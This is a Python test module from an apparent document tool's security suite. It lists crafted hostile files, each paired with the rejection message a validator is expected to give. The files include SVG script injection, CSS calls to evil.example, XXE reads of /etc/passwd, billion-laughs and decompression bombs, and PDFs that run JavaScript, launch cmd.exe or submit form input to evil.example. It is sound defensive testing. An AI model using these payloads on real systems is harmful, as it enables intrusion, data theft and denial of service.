# ruff: noqa: E501  (one row a case)
"""Attacks by files: drawings, pictures that are none or too much, PDFs, and other files that are given out."""

import base64
import struct
import zlib
from io import BytesIO

from PIL import Image

from tests.hostile.attacks import Attack

_NS = b'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="700" height="90"'
_RUNS = "which can run as a program"
_ASKS = "it asks for something outside itself"
_MANY, _WITHIN = "it draws more than 200,000 shapes", "it shows itself within itself"
_PARTS = "it holds a style that not every browser reads alike"
_BUSY = "its styles would keep a program busy for ever"
_DECLARES = "it declares entities or attributes"
_BOMB = b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def svg(inner: bytes, before: bytes = b"") -> bytes:
    """Write a drawing."""
    return before + b"<svg " + _NS + b">" + inner + b"</svg>"


def _drawn(name: str, content: bytes, says: str) -> Attack:
    return Attack(name, "![A drawing](a.svg)", f"4: picture: the picture 'a.svg': {says}", files={"a.svg": content})


def _uses(levels: int) -> bytes:
    """Give a drawing in which each level shows the one below ten times."""
    groups = b"".join(
        b'<g id="l%d">%s</g>' % (level, b'<use href="#l%d"/>' % (level - 1) * 10) for level in range(1, levels)
    )
    return svg(b'<g id="l0"><path d="M0 0h9"/></g>' + groups)


def _marked(line: bytes) -> bytes:
    """Give a drawing with a marker of 1,000 shapes."""
    return svg(b'<marker id="m">%s</marker>' % (b"<path/>" * 1000) + line)


def _masked(shape: bytes, before: bytes = b"") -> bytes:
    """Give a drawing in which each of eight masks holds ten shapes that wear the mask below."""
    levels = b"".join(
        b'<g id="l%d">%s</g><mask id="m%d"><use href="#l%d"/></mask>'
        % (level, (shape.replace(b"%d", b"%d" % (level - 1)).replace(b"%%", b"%") * 10), level, level)
        for level in range(1, 9)
    )
    return svg(before + b'<mask id="m0"><path d="M0 0h9"/></mask>' + levels + b'<use href="#l8"/>')


def _styled(selector: bytes, depth: int) -> bytes:
    """Give a drawing with a style for elements that stand so deep."""
    return svg(b"<style>%s{fill:red}</style>" % selector + b"<g>" * depth + b"<b/>" * 90 + b"</g>" * depth)


DRAWINGS: tuple[Attack, ...] = (
    _drawn("svg-script", svg(b"<script>boom()</script>"), f"it holds script, {_RUNS}"),
    _drawn("svg-script-prefixed", b'<y:svg xmlns:y="http://www.w3.org/2000/svg"><y:script>boom()</y:script></y:svg>', "it has no <svg> element"),
    _drawn("svg-handler", svg(b'<path ONLOAD="boom()" d="M0 0h9"/>'), "it holds ONLOAD"),
    _drawn("svg-foreign", svg(b"<foreignObject><p>A</p></foreignObject>"), f"it holds foreignObject, {_RUNS}"),
    _drawn("svg-html-inside", svg(b'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example"/>'), f"it holds meta, {_RUNS}"),
    _drawn("svg-utf-16", svg(b"<script>boom()</script>", b'<?xml version="1.0" encoding="utf-16"?>').decode().encode("utf-16"), "it has no <svg> element"),
    _drawn("svg-utf-7", svg(b"<desc>+ADwAIQAtAC0- <script>boom()</script> +AC0ALQA+-</desc>", b'<?xml version="1.0" encoding="UTF-7"?>'), "it says it is written in 'utf-7'"),
    _drawn("svg-iso-2022", svg(b"", b'<?xml version="1.0" encoding="ISO-2022-CN"?>'), "it says it is written in 'iso-2022-cn'"),
    _drawn("svg-latin-1-and-not", svg(b"<desc>\x80</desc>", b'<?xml version="1.0" encoding="iso-8859-1"?>'), "it says it is written in 'iso-8859-1'"),
    _drawn("svg-utf-8-and-not", svg(b"<desc>\xe9</desc>"), "it says it is written in UTF-8 or UTF-16, and is not"),
    _drawn("svg-image", svg(b'<image href="https://evil.example/x.png"/>'), _ASKS),
    _drawn("svg-image-file", svg(b'<image x:href="file:///etc/passwd"/>'), _ASKS),
    _drawn("svg-use", svg(b'<use x:href="https://evil.example/x.svg#a"/>'), _ASKS),
    _drawn("svg-link-javascript", svg(b'<a x:href="java&#115;cript:boom()"><path d="M0 0h9"/></a>'), _ASKS),
    _drawn("svg-data-svg", svg(b'<image href="data:image/svg+xml,%3Csvg onload=boom()%3E"/>'), _ASKS),
    _drawn("svg-animated-link", svg(b'<a><animate attributeName="href" to="javascript:boom()"/></a>'), "it holds animate, which changes where a link leads"),
    _drawn("svg-style-url", svg(b"<style>path { fill: url(https://evil.example/x.svg#a) }</style>"), _ASKS),
    _drawn("svg-style-characters", svg(b'<path style="fill: &#117;rl(https://evil.example/x)" d="M0 0h9"/>'), _ASKS),
    _drawn("svg-style-escapes", svg(rb'<path fill="\75 rl(https://evil.example/x)" d="M0 0h9"/>'), _ASKS),
    _drawn("svg-style-comment", svg(b"<style>@im/**/port x; @import 'https://evil.example/x.css';</style>"), _ASKS),
    _drawn("svg-font-face", svg(b"<style>@font-face { font-family: a; src: url(file:///etc/passwd) }</style>"), _ASKS),
    _drawn("svg-image-set", svg(b'<style>path { cursor: -webkit-image-set("https://evil.example/x" 1x) }</style>'), _ASKS),
    _drawn("svg-style-comment-in-string", svg(b"<style>a{font-family:\"/*\"} svg{background:url(https://evil.example/x.png)} a{font-family:\"*/\"}</style>"), _ASKS),
    _drawn("svg-style-comment-in-url", svg(b"<style>a{fill:url(#a/*)} svg{background:url(https://evil.example/*/x.png)}</style>"), _ASKS),
    _drawn("svg-style-comment-in-attribute", svg(b"<path d=\"M0 0h9\" style='font-family:\"/*\";fill:url(https://evil.example/x);x:\"*/\"'/>"), _ASKS),
    _drawn("svg-style-string-in-comment", svg(b"<style><!-- \" -->svg{background:url(https://evil.example/x.png)}<!-- \" --></style>"), _ASKS),
    _drawn("svg-style-string-in-element", svg(b"<style><g>\"</g>svg{background:url(https://evil.example/x.png)}</style>"), _ASKS),
    _drawn("svg-style-string-in-values", svg(b"<path><animate attributeName=\"fill\" values=\"';url(https://evil.example/x);'\"/></path>"), _ASKS),
    _drawn("svg-style-quoted-quote", svg(b"<style>svg{background:url('\"https://evil.example/x.png')}</style>"), _ASKS),
    _drawn("svg-style-breaks-off", svg(b"<style>a{x:\"\n} b{x:\"} svg{background:url(https://evil.example/x.png)}</style>"), _PARTS),
    _drawn("svg-style-unclear-address", svg(b"<style>a{x:u+aurl(#/*) \" */} svg{background:url(https://evil.example/x.png)}</style>"), _PARTS),
    _drawn("svg-style-unclear-name", svg("<style>a{x:\xa0url(#/*) } svg{background:url(https://evil.example/x.png)}</style>".encode()), _PARTS),
    _drawn("svg-style-long-number", svg(b"<style>@media a{x:%s}</style>" % (b"1" * 5000)), "a number in its styles is too long"),
    _drawn("svg-style-deep", svg(b"<style>@a %s</style>" % (b"{" * 100_000)), "blocks in its styles stand deeper than 50"),
    _drawn("svg-style-endless", svg(b"<style>@a{%s}</style>" % (b";" * 1_200_000)), "its styles have more than 1,000,000 characters"),
    _drawn("svg-base", svg(b'<g xml:base="https://evil.example/"><use href="#a"/></g>'), _ASKS),
    _drawn("svg-style-sheet", svg(b"", b'<?xml-stylesheet href="https://evil.example/x.css"?>'), "it holds an instruction <?"),
    _drawn("svg-billion-laughs", svg(b"<text>&b;</text>", _BOMB), _DECLARES),
    _drawn("svg-outer-entity", svg(b"<text>&a;</text>", b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), _DECLARES),
    _drawn("svg-declared-handler", svg(b"", b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "boom()">]>'), _DECLARES),
    _drawn("svg-laughs-by-use", _uses(9), _MANY),
    _drawn("svg-within-itself", svg(b'<g id="a"><use href="#a"/></g>'), _WITHIN),
    _drawn("svg-markers", _marked(b'<path marker-mid="url(#m)" d="M0 0%s"/>' % (b" L5 5" * 40_000)), _MANY),
    _drawn("svg-markers-from-group", _marked(b'<g style="marker:url(#m)"><polyline points="%s"/></g>' % (b"5 5 " * 40_000)), _MANY),
    _drawn("svg-style-within-itself", svg(b'<style>g .a{mask:url(#m)}</style><mask id="m"><rect class="a" width="9" height="9"/></mask>'), _WITHIN),
    _drawn("svg-laughs-by-mask-and-string", _masked(b"<rect style='font-family:\"/*\";mask:url(#m%d);x:\"*/\"'/>"), _MANY),
    _drawn("svg-laughs-by-mask-in-sheet", _masked(b'<rect class="a%d"/>', b"<style>a{x:\"/*\"} %s b{x:\"*/\"}</style>" % b"".join(b".a%d{mask:url(#m%d)}" % (n, n) for n in range(9))), _MANY),
    _drawn("svg-laughs-by-mask-within-media", _masked(b'<rect class="a%d"/>', b"<style>%s</style>" % b"".join(b"@media all{.a%d{@supports(x:y){mask:url(#m%d)}}}" % (n, n) for n in range(9))), _MANY),
    _drawn("svg-laughs-by-mask-named", _masked(b'<rect style="mask:var(--m%d)"/>', b"<style>svg{%s}</style>" % b"".join(b"--m%d:url(#m%d);" % (n, n) for n in range(9))), _WITHIN),
    _drawn("svg-laughs-by-mask-inherited", _masked(b'<rect class="a"/>', b"<style>%s .a{mask:inherit}</style>" % b"".join(b"#l%d{mask:url(#m%d)}" % (n + 1, n) for n in range(9))), _WITHIN),
    _drawn("svg-laughs-by-mask-in-frames", _masked(b'<rect style="animation:k%d 1s"/>', b"<style>%s</style>" % b"".join(b"@keyframes k%d{from{mask:url(#m%d)}}" % (n, n) for n in range(9))), _WITHIN),
    _drawn("svg-laughs-by-mask-set", _masked(b'<rect id="r%d"/>', b"".join(b'<set href="#r%d" attributeName="mask" to="url(#m%d)"/>' % (n, n) for n in range(9))), _MANY),
    _drawn("svg-laughs-by-pattern", svg(b"".join(b'<pattern id="p%d"><g fill="url(#p%d)">%s</g></pattern>' % (n, n - 1, b"<rect/>" * 10) for n in range(9)) + b'<rect fill="url(#p8)"/>'), _MANY),
    _drawn("svg-markers-in-style", _marked(b'<style>.a{d:path("M0 0%s")}</style><path class="a" marker-mid="url(#m)"/>' % (b" L5 5" * 40_000)), _MANY),
    _drawn("svg-markers-in-attribute", _marked(b'<path marker-mid="url(#m)" style="d:path(\'M0 0%s\')"/>' % (b" L5 5" * 40_000)), _MANY),
    _drawn("svg-laughs-by-decoy", _masked(b'<rect mask="url(#%%6d%d)"/>', b"".join(b'<mask id="%%6d%d"/>' % n for n in range(9))), _MANY),
    _drawn("svg-selector-bomb", _styled(b".z %sb" % (b"g " * 12), 60), _BUSY),
    _drawn("svg-selectors", _styled(b", ".join(b"%s.x%d b" % (b"g " * 12, n) for n in range(3000)), 60), _BUSY),
    _drawn("svg-selectors-in-one-another", _styled(b":is(g " * 6 + b"g" + b") g" * 6 + b" b", 60), _BUSY),
    _drawn("svg-selectors-that-look-within", _styled(b", ".join(b"g:has(.x%d) b" % n for n in range(500)), 200), _BUSY),
    _drawn("svg-gradient-that-repeats", svg(b'<linearGradient id="a" x2=".0000001"/><linearGradient href="#a" spreadMethod="repeat"/>'), "it repeats a gradient more than 10,000 times"),
    _drawn("svg-ring-that-repeats", svg(b'<radialGradient gradientUnits="userSpaceOnUse" r="9" gradientTransform="scale(.00001)" spreadMethod="reflect"/>'), "it repeats a gradient more than 10,000 times"),
    _drawn("svg-letters", svg(b"<text>%s</text>" % (b"a" * 200_000)), "it has more than 50,000 letters"),
    _drawn("svg-too-deep", svg(b"<g>" * 5000 + b"</g>" * 5000), "it is no sound XML"),
    _drawn("svg-unsound", svg(b"<g><p></g>"), "it is no sound XML"),
    _drawn("svg-endless-size", svg(b"").replace(b'"700"', b'"90000000"'), "it is 90000000 by 90 pixels"),
)  # fmt: skip


def _png_head(width: int, height: int, body: bytes = b"") -> bytes:
    """Write a PNG that says it is so large, in a few bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _within(name: str, content: bytes, says: str, written: bytes = b'<image href="%s"/>') -> Attack:
    """A drawing that holds a picture."""
    return _drawn(name, svg(written % (b"data:image/png;base64," + base64.b64encode(content))), says)


WITHIN: tuple[Attack, ...] = (
    _within("svg-picture-bomb", _png_head(13_000, 13_000, zlib.compress(b"\0" * 999_999)), "picture 1 in it: it has more than 89 million pixels"),
    _within("svg-picture-bomb-in-style", _png_head(13_000, 13_000), "picture 1 in it: it has more than 89 million pixels", b'<path style="fill: url(%s)" d="M0 0h9"/>'),
    _within("svg-picture-bomb-behind-comment", _png_head(13_000, 13_000), "picture 1 in it: it has more than 89 million pixels", b"<style><!-- a -->path { fill: url(%s) }</style>"),
    _drawn("svg-picture-of-a-kind", svg(b'<image href="data:image/png;a.b;base64,iVBORw0KGgo="/>'), _ASKS),
    _within("svg-picture-none", b"<html>", "picture 1 in it: it cannot be read as a picture"),
    _drawn("svg-many-pictures", svg(b'<image href="data:image/png;base64,%s"/>' % base64.b64encode(_png_head(9_000, 9_000)) * 2), "the pictures in it have more than 89 million pixels"),
)  # fmt: skip


def _picture(kind: str, **wishes: object) -> bytes:
    written = BytesIO()
    Image.new("RGB", (700, 400), (90, 120, 60)).save(written, kind, **wishes)
    return written.getvalue()


def _shown(name: str, content: bytes, says: str, file: str = "a.png") -> Attack:
    said = f"4: picture: the picture '{file}': {says}" if says else ""
    return Attack(name, f"![A picture]({file})", said, files={file: content})


PICTURES: tuple[Attack, ...] = (
    *WITHIN,
    _shown("picture-bomb", _png_head(50_000, 50_000, zlib.compress(b"\0" * 999)), "it has more than 89 million pixels"),
    _shown("picture-is-html", b"<html><script>boom()</script></html>", "it breaks off"),
    _shown("picture-is-svg", svg(b"<script>boom()</script>"), "it breaks off"),
    _shown(
        "picture-is-a-program", b"MZ\x90\0" + bytes(900) + b"IEND\xae\x42\x60\x82", "it cannot be read as a picture"
    ),
    _shown("picture-breaks-off", _picture("PNG")[:300], "it breaks off"),
    _shown("jpeg-is-html", b"\xff\xd8\xff\xfe\0\x20<script>boom()</script>", "it breaks off", "a.jpg"),
    _shown("picture-format-unknown", b"%!PS-Adobe\n(/etc/passwd) run", "'.eps' is not a picture format", "a.eps"),
)

DAMAGED = _shown("picture-unpacks-to-less", _png_head(700, 400, zlib.compress(b"\0" * 99)), "")
"""Found when it is printed, for no check unpacks every picture."""

POLYGLOTS: tuple[Attack, ...] = (
    _shown("jpeg-with-html-in-comment", _picture("JPEG", comment=b"<script>boom()</script>"), "", "a.jpg"),
    _shown("gif-and-script", _picture("GIF", comment=b"*/=1;boom()//"), "", "a.gif"),
    _shown("png-with-html-behind", _picture("PNG") + b"<script>boom()</script>" + _picture("PNG")[-12:], ""),
    Attack("jpeg-given-out", "[A picture](b.jpg)", files={"b.jpg": _picture("JPEG", comment=b"<script>boom()</script>")}),
)  # fmt: skip

_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R {}>>endobj\n2 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj\n4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def pdf(entry: bytes, more: bytes = b"") -> bytes:
    """Write a PDF with an entry in its catalogue."""
    return _PDF.replace(b"{}", entry).replace(b"trailer", more + b"trailer")


_SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
_PACKED = zlib.compress(_SCRIPT)
_STREAM = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"


def _packed(entries: bytes, content: bytes) -> bytes:
    """Write a PDF, with its table of objects, that opens with an action out of a stream of objects."""
    out, places = b"%PDF-1.5\n", dict[int, int]()
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        9: b"<<" + entries + b"/N 1/First 4/Length %d>>stream\n%s\nendstream" % (len(content), content),
    }
    for number, written in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj" % number + written + b"endobj\n"
    places[10] = len(out)
    rows = [struct.pack(">BIB", 1, places[n], 0) if n in places else bytes(6) for n in range(11)]
    rows[5] = struct.pack(">BIB", 2, 9, 0)
    table = b"<</Type/XRef/W[1 4 1]/Size 11/Root 1 0 R/Length 66>>stream\n" + b"".join(rows)
    return out + b"10 0 obj" + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % places[10]


def _given(name: str, content: bytes, says: str, file: str = "a.pdf") -> Attack:
    return Attack(name, f"[A file]({file})", f"4: link: '{file}': {says}", files={file: content})


GIVEN_OUT: tuple[Attack, ...] = (
    _given("pdf-javascript", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "it holds JavaScript"),
    _given("pdf-javascript-in-signs", pdf(b"/OpenAction<</S/#4aavaScript/#4aS(app.alert(1))>>"), "it holds JavaScript"),
    _given("pdf-javascript-packed", pdf(b"/OpenAction 5 0 R", _STREAM % (len(_PACKED), _PACKED)), "it holds JavaScript"),
    _given("pdf-javascript-between", pdf(b"").replace(b"1 0 obj", b"%stream\n1 0 obj").replace(b"/Catalog", b"/Catalog/OpenAction<</S%\n/JavaScript/JS(a)>>") + b"\n%endstream", "it holds JavaScript"),
    _given("pdf-javascript-objstm-in-signs", _packed(b"/Type/Obj#53tm/Filter/FlateDecode", _PACKED), "it holds JavaScript"),
    _given("pdf-javascript-far-stream", _packed(b"/Type/ObjStm/Pad(" + b"x" * 500 + b")/Filter/FlateDecode", _PACKED), "it holds JavaScript"),
    _given("pdf-javascript-unfiltered", _packed(b"/Type/ObjStm", _SCRIPT), "it holds JavaScript"),
    _given("pdf-javascript-two-filters", _packed(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", _PACKED.hex().encode() + b">"), "it holds JavaScript"),
    _given("pdf-javascript-behind-bomb", _packed(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"5 0 " + b" " * (65 << 20) + _SCRIPT[4:])), "it holds JavaScript"),
    _given("pdf-bomb", _packed(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"5 0 " + b" " * (65 << 20) + b"(a)")), "its objects unpack to more than 64 MB"),
    _given("pdf-opens-elsewhere", pdf(rb"/OpenAction<</S/GoToR/F(\\\\evil\\share\\x.pdf)>>"), "it opens a file of another computer"),
    _given("pdf-opens-file-beside", pdf(b"/OpenAction<</S/GoToR/F(x.pdf)>>"), "it asks for something elsewhere, or acts, when it is opened or turned (GoToR)"),
    _given("pdf-opens-address", pdf(b"/OpenAction 5 0 R", b"5 0 obj<</S/URI/URI(https://evil.example)>>endobj\n"), "it asks for something elsewhere, or acts, when it is opened or turned (URI)"),
    _given("pdf-turns-to-address", pdf(b"/AA<</WC<</S/GoTo/D[4 0 R/Fit]/Next[<</S/URI/URI(https://evil.example)>>]>>>>"), "it asks for something elsewhere, or acts, when it is opened or turned (URI)"),
    _given("pdf-links-to-script", pdf(b"", b"3 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(java\tscript:boom\\(\\))>>>>endobj\n"), "it links to 'java"),
    _given("pdf-plays", pdf(b"", b"3 0 obj<</S/Rendition/OP 0>>endobj\n"), "it plays films or programs"),
    _given("pdf-fetches", pdf(b"/AA<</O<</S/ImportData/F(a.fdf)>>>>"), "it fetches data"),
    _given("pdf-launch", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "it starts other programs"),
    _given("pdf-xfa", pdf(b"/AcroForm<</XFA(a)/Fields[]>>"), "it holds a form that is a program"),
    _given("pdf-rich-media", pdf(b"", b"3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n"), "it plays films or programs"),
    _given("pdf-sends-form", pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "it sends what readers type"),
    _given("pdf-encloses", pdf(b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>]>>>>"), "it encloses a file (a.exe)"),
    _given("pdf-and-html", b"<html><script>boom()</script>\n" + pdf(b""), "it begins as a web page"),
    _given("pdf-in-name-only", b"<html><script>boom()</script>", "it is called .pdf, but is none"),
    _given("html-given-out", b"<script>boom()</script>", "files that end in '.html' are not given out", "a.html"),
    _given("script-given-out", b"boom()", "files that end in '.js' are not given out", "a.js"),
    _given("program-given-out", b"MZ", "files that end in '.exe' are not given out", "a.pdf.exe"),
    _given("web-server-settings", b"AddHandler x", "files that end in '' are not given out", "htaccess"),
    _given("page-called-a-citation", b"\xef\xbb\xbf\n <!DOCTYPE html><script>boom()</script>", "it begins as a web page", "a.ris"),
    _given("page-called-a-sound", b"<script>boom()</script>", "it begins as a web page", "a.mp3"),
    _given("svg-given-out", svg(b"<script>boom()</script>"), "it holds script", "a.svg"),
    _given("png-given-out-is-html", b"<script>boom()</script>", "it is called .png, but is none", "a.png"),
    _given("docx-is-none", b"MZ\x90\0", "it is called .docx, but is none", "a.docx"),
    Attack("attachment-html", fields="attachments:\n  - file: a.htm\n    title: A file\n", says="4: attachments.0.file: 'a.htm': files that end in '.htm'", files={"a.htm": b"<script>boom()</script>"}),
)  # fmt: skip
